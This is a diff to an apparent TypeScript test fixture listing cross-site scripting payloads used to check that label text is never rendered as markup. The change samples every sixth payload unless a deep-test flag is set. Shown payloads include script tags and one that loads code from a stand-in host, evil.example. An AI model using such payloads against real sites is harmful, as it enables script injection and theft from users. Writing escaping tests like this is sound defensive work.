@@ -2,6 +2,8 @@
  * Texts that would run as a script, load something or become an element, were they ever put into a page as anything but text. Each
  * that becomes an element carries the attribute `pwn`, each that runs sets `window.pwn`. At most 60 characters, as a label has.
  */
+import { isDeep } from '../tests/size.ts';
+
 const SHAPES = [
   String.raw`<script pwn>pwn=1</script>`,
   String.raw`<script pwn src=//evil.example/x.js></script>`,
@@ -66,7 +68,9 @@ const SHAPES = [
 ];
 
 /** Each as it is, and behind what ends a value of an attribute. */
-export const PAYLOADS: readonly string[] = [...SHAPES, ...SHAPES.map((shape) => `"'>${shape}`)];
+const ALL = [...SHAPES, ...SHAPES.map((shape) => `"'>${shape}`)];
+/** Of `npm test` every sixth, both as it is and out of an attribute. */
+export const PAYLOADS: readonly string[] = isDeep ? ALL : ALL.filter((_, index) => index % 6 === 0);
 
 /** One of them; after the last comes the first again. */
 export function payload(number: number): string {
